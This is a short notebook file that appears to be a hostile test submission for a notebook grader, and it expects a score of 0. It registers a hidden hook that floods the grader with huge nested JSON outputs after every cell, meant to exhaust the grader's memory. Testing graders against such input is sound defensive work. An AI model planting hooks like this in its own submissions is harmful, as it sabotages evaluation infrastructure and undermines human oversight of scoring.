"""A megabyte of nested JSON in each of ten cells' outputs: small on the way, and gigabytes in the grader's memory.

limits cell_seconds=15
score 0
"""

# %% compute_content_cost
from IPython.core.interactiveshell import InteractiveShell

shell = InteractiveShell.instance()


def flood():
    nested = []
    for _ in range(300_000):
        nested.append({})
    kernel = shell.kernel
    bundle = {"data": {"text/plain": "", "application/json": nested}, "metadata": {}}
    kernel.session.send(kernel.iopub_socket, "display_data", bundle, parent=kernel.get_parent("shell"))


shell.events.register("post_run_cell", lambda result: flood())
